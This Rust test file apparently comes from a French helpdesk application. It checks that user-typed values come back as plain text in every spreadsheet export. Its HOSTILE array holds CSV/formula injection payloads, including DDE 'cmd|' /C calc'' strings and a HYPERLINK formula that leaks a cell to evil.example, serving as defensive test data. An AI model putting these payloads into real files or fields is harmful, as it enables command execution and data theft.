//! What spreadsheets run, typed into every field that people type into.

use chrono::TimeDelta;
use guichet::{
    desk::{
        Change, FileTicket, NewMember, NewWorker, OrganisationSaid, PlatformSaid, Secret,
        TimeCorrection, VersionSaid,
    },
    domain::{
        access::Scope,
        ids::{MessageId, PersonId},
        lang::Lang,
        people::{OrganisationKind, Role},
        platform::Environment,
        ticket::{Act, Line, Minutes, Priority, Satisfaction},
    },
    store::DatabaseUrl,
};

use super::{OPEN, both};
use crate::{
    desk_world::{address, blocked, request, text},
    support::{
        app::{Served, served},
        customers::House,
        on_each_engine,
    },
};

/// What is run, or taken for something else than the text that it is.
pub(super) const HOSTILE: [&str; 32] = [
    "=1+1",
    "+33 1 02 03 04 05",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1+1",
    "\r=2+1",
    "Bonjour\n=3+1",
    "Bonjour\r\n@x",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "=HYPERLINK(\"https://evil.example?x=\"&A1,\"cliquez\")",
    "=cmd|'/C calc'!A0",
    "'=1+1",
    "\"=1+1;,\t",
    "1;=1+1,=1+1",
    "{=1+1}",
    "00420",
    "12345678901234567890",
    "1E5",
    "3/4",
    "24:00",
    "2026-03-04",
    "-1,5",
    "-1.5",
    "50 %",
    "TRUE",
    "#N/A",
    "_x0041_",
    "<b>&amp;</b>",
    "Noël à l’œuvre 👍🏽",
];

pub(super) fn line(text: &str) -> Line {
    Line::parse(text).unwrap()
}

pub(super) struct Scene {
    pub served: Served,
    pub boss: PersonId,
    pub house: House,
}

impl Scene {
    /// A desk in which everything is called so.
    pub fn new(url: &DatabaseUrl) -> Self {
        let served = served(url, OPEN);
        let boss = served.worker("Dominique", "boss@desk.example", Role::Administrator);
        let house = served.customer(url, "Marlaix", boss);
        let scene = Self {
            served,
            boss,
            house,
        };
        super::pays_ahead(&scene.served, house.id, boss);
        for (rank, typed) in HOSTILE.into_iter().enumerate() {
            scene.set_up(rank, typed);
            scene.file(rank, typed);
            scene.talk(rank, typed);
        }
        scene.served.clock.advance(TimeDelta::hours(6));
        scene.served.desk.escalate().unwrap();
        scene
    }

    fn set_up(&self, rank: usize, typed: &str) {
        let (desk, by) = (&self.served.desk, self.boss);
        let worker = NewWorker {
            name: line(typed),
            email: address(&format!("agent{rank}@desk.example")),
            role: Role::Agent,
            lang: Lang::Fr,
        };
        let worker = desk.add_worker(&worker).unwrap();
        let queue = desk.queues().unwrap()[0].id;
        desk.set_queue_member(queue, worker, true, by).unwrap();
        let product = desk.name_product(None, &line(typed), by).unwrap();
        let version = VersionSaid {
            name: line(typed),
            maintained: true,
            maintained_until: None,
        };
        let version = desk.set_version(product, None, &version, by).unwrap();
        let organisation = OrganisationSaid {
            name: line(typed),
            kind: OrganisationKind::Customer,
            mail_domain: None,
        };
        desk.enter_organisation(&organisation, by).unwrap();
        let platform = PlatformSaid {
            name: line(typed),
            environment: Environment::Production,
            version: Some(version),
            active: true,
        };
        desk.enter_platform(self.house.id, &platform, by).unwrap();
        let member = NewMember {
            name: line(typed),
            // Both signs may begin an address.
            email: address(&format!("{}{rank}@marlaix.example", ["=", "+"][rank % 2])),
            lang: Lang::Fr,
        };
        let member = desk.invite_member(self.house.id, &member, by).unwrap();
        desk.designate(self.house.id, member.unwrap(), None, by)
            .unwrap();
        let services = desk.services().unwrap();
        let service = services.iter().find(|one| one.slug == "portail").unwrap();
        crate::availability::called(desk, service.id, typed, by);
    }

    fn file(&self, rank: usize, typed: &str) {
        let desk = &self.served.desk;
        let of_marlaix = format!("{}{rank}@marlaix.example", ["=", "+"][rank % 2]);
        for email in [of_marlaix.as_str(), &format!("x{rank}@nulle.example")] {
            let key = Secret::draw();
            desk.file_ticket(FileTicket {
                key: key.clone(),
                name: line(typed),
                email: address(email),
                organisation_said: typed.to_owned(),
                subject: line(typed),
                description: text(typed),
                ..request("portail", blocked())
            })
            .unwrap();
            if email == of_marlaix {
                self.settle(&key, typed);
            }
        }
    }

    /// It takes five minutes, and the requester says what they think of it.
    fn settle(&self, link: &Secret, typed: &str) {
        let desk = &self.served.desk;
        let ticket = desk.request(link).unwrap().ticket;
        let reason = line(typed).as_str().to_owned();
        desk.change_ticket(Change {
            ticket: ticket.id,
            seen: ticket.version,
            by: self.boss,
            act: Act::Requalify {
                to: Priority::P3,
                reason,
            },
            text: None,
            files: false,
            spent: Minutes::default(),
        })
        .unwrap();
        desk.change_ticket(Change {
            ticket: ticket.id,
            seen: ticket.version + 1,
            by: self.boss,
            act: Act::Reply {
                message: MessageId::fresh(),
                resolve: true,
            },
            text: Some(text("Réparé.")),
            files: false,
            spent: Minutes::new(5).unwrap(),
        })
        .unwrap();
        desk.rate_by_link(link, Satisfaction::Content, Some(text(typed)))
            .unwrap();
    }

    fn talk(&self, rank: usize, typed: &str) {
        let (desk, ticket, by) = (&self.served.desk, self.house.ticket, self.boss);
        let seen = || {
            let page = desk.ticket(ticket, &Scope::Desk).unwrap();
            page.ticket.version
        };
        let message = MessageId::fresh();
        let to = [Priority::P2, Priority::P3][rank % 2];
        let reason = line(typed).as_str().to_owned();
        for (act, said) in [
            (Act::Note { message }, Some(text(typed))),
            (Act::Requalify { to, reason }, None),
        ] {
            let spent = Minutes::new(u32::from(said.is_some()) * 30).unwrap();
            desk.change_ticket(Change {
                ticket,
                seen: seen(),
                by,
                act,
                text: said,
                files: false,
                spent,
            })
            .unwrap();
        }
        desk.correct_time(TimeCorrection {
            ticket,
            seen: seen(),
            by,
            message,
            to: Minutes::new(20).unwrap(),
            reason: line(typed),
        })
        .unwrap();
    }

    /// Every list, as those who may read it ask for it, and whether it holds lines or texts.
    pub fn pages(&self) -> Vec<(String, bool)> {
        let (house, ticket) = (self.house.id, self.house.ticket);
        [
            "/queue?view=all".to_owned(),
            "/escalations?show=all".to_owned(),
            "/organisations".to_owned(),
            format!("/organisations/{house}/people"),
            format!("/organisations/{house}/platforms"),
            format!("/organisations/{house}/designated"),
            format!("/organisations/{house}/time"),
            format!("/organisations/{house}/hours"),
            "/products".to_owned(),
            "/queues".to_owned(),
            "/people".to_owned(),
            "/portal?view=all".to_owned(),
            "/portal/people".to_owned(),
            "/portal/people/designated".to_owned(),
            "/portal/hours".to_owned(),
            format!("/organisations/{house}/register"),
            "/portal/register".to_owned(),
        ]
        .map(|page| (page, true))
        .into_iter()
        .chain([
            (format!("/tickets/{ticket}/history"), false),
            ("/letters?state=waiting".to_owned(), false),
            // What a letter has typed is in `incoming`.
            ("/incoming".to_owned(), false),
            ("/letters/wording".to_owned(), false),
            ("/satisfaction".to_owned(), true),
            ("/qualification".to_owned(), true),
            ("/overview".to_owned(), false),
            ("/overview/vendors".to_owned(), false),
            ("/portal/overview".to_owned(), false),
            (format!("/organisations/{house}/consents"), false),
            ("/portal/consents".to_owned(), false),
            (format!("/organisations/{house}/subscriptions"), false),
            (format!("/organisations/{house}/credits"), false),
            ("/credits".to_owned(), false),
            (format!("/organisations/{house}/history"), false),
            ("/people/history".to_owned(), false),
            ("/reports".to_owned(), false),
            ("/reports/list?figure=filed".to_owned(), false),
            ("/reports/availability".to_owned(), false),
        ])
        .collect()
    }
}

#[test]
fn export_what_people_typed_is_text_in_every_list_and_comes_back_as_it_was() {
    on_each_engine(|url| {
        let scene = Scene::new(url);
        let mut boss = scene.served.signed_in(scene.boss);
        let mut chief = scene.served.signed_in(scene.house.chief);
        let integrator = scene
            .served
            .organisation("=1+1", OrganisationKind::Integrator);
        let serving = scene
            .served
            .member(integrator, "=1+1", "ines@integrale.example", scene.boss);
        scene.served.serves(url, integrator, scene.house.id);
        let mut serving = scene.served.signed_in(serving);
        let pages = scene.pages();
        assert_eq!(pages.len(), super::lists().len(), "a list is not looked at");
        for (page, holds_all) in pages {
            let browser = if page.starts_with("/portal/overview") {
                &mut serving
            } else if page.starts_with("/portal") {
                &mut chief
            } else {
                &mut boss
            };
            let list = both(browser, &page);
            for typed in HOSTILE.into_iter().filter(|_| holds_all) {
                let typed = line(typed);
                assert!(
                    list.has(typed.as_str()),
                    "{page} has no {typed:?}: {list:?}"
                );
            }
        }
        let history = both(
            &mut boss,
            &format!("/tickets/{}/history", scene.house.ticket),
        );
        for typed in HOSTILE {
            let typed = text(typed);
            assert!(history.column(4).contains(&typed.as_str()), "{typed:?}");
        }
        let opinions = both(&mut boss, "/satisfaction");
        for typed in HOSTILE {
            let typed = text(typed);
            assert!(opinions.column(4).contains(&typed.as_str()), "{typed:?}");
        }
        let time = both(
            &mut boss,
            &format!("/organisations/{}/time", scene.house.id),
        );
        let sum: i64 = time
            .column(4)
            .iter()
            .map(|cell| cell.parse::<i64>().unwrap())
            .sum();
        assert_eq!(
            sum,
            (20 + 5) * HOSTILE.len() as i64,
            "corrections are rows, and add up"
        );
    });
}
